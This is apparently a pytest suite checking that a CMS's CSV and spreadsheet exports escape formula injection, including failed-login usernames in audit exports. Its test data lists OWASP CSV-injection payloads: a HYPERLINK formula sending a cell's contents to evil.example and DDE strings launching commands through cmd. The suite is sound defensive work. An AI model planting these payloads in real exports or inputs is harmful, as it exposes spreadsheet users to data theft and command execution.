"""One export-cell function for every CSV and spreadsheet (issue 17): text that a spreadsheet would
run as a formula is neutralised in every export, and no code writes one any other way."""
from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from core.exports import FORMULA_START, append_rows, csv_text, export_cell, new_workbook, workbook_bytes

ROOT = Path(__file__).resolve().parents[2]
# What people type into a field that ends up in an export (OWASP CSV injection payloads).
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]


def cells_of_csv(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def cells_of_xlsx(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def assert_inert(cells: list, payloads=FORMULAS) -> None:
    """No cell starts a formula, and each payload is there, neutralised (the check is not vacuous)."""
    texts = [c if isinstance(c, str) else c.value for c in cells]
    assert [t for t in texts if isinstance(t, str) and t.startswith(FORMULA_START)] == []
    for payload in payloads:          # (XML reads a carriage return back as a line feed)
        expected = ("'" + payload).replace("\r", "\n")
        assert any(isinstance(t, str) and t.replace("\r", "\n") == expected for t in texts), repr(payload)
    for c in cells:
        if not isinstance(c, str) and isinstance(c.value, str):
            assert c.data_type == "s", c.coordinate


def test_the_function_neutralises_each_formula_start_and_nothing_else():
    for payload in FORMULAS:
        assert export_cell(payload) == "'" + payload
    for harmless in ("白水镇", "2026-12-07", "1,000", "a=b", "", "'已转义"):
        assert export_cell(harmless) == harmless
    assert export_cell(-5) == -5 and export_cell(None) is None


def test_csv_and_workbooks_written_by_core_are_inert():
    assert_inert(cells_of_csv(csv_text([["姓名", "意见"], *[[p, p] for p in FORMULAS]])))
    wb = new_workbook()
    append_rows(wb.create_sheet("表"), [["姓名"], *[[p] for p in FORMULAS]])
    assert_inert(cells_of_xlsx(workbook_bytes(wb)))


def test_nothing_else_writes_csv_or_workbooks():
    """By construction: only core/exports.py imports csv or openpyxl's Workbook."""
    found = []
    for path in sorted([*(ROOT / "core").rglob("*.py"), *(ROOT / "plugins").rglob("*.py")]):
        if path == ROOT / "core" / "exports.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Import) and any(a.name == "csv" for a in node.names):
                found.append(f"{path.relative_to(ROOT)}: import csv")
            if isinstance(node, ast.ImportFrom) and node.module in ("csv", "openpyxl", "openpyxl.workbook") and \
                    any(a.name in ("Workbook", "writer", "DictWriter") for a in node.names):
                found.append(f"{path.relative_to(ROOT)}: from {node.module} import ...")
    assert found == []


@pytest.mark.parametrize("payload", FORMULAS)
def test_audit_export_writes_a_failed_login_name_as_text(demo, client, runner, tmp_path, payload):
    """Anyone on the internet can type a user name into the login form; the failed login is logged
    with it, and `cms audit export` writes it into the file an auditor opens."""
    client.post("/admin/login", data={"username": payload, "password": "x", "csrf_token": _csrf(client)})
    path = tmp_path / "audit.csv"
    result = runner.invoke(args=["audit", "export", str(path)])
    assert result.exit_code == 0, result.output
    assert_inert(cells_of_csv(path.read_text(encoding="utf-8-sig")), payloads=[payload.strip()])


def _csrf(client) -> str:
    from tests.conftest import csrf_from
    return csrf_from(client.get("/admin/login").get_data(as_text=True))
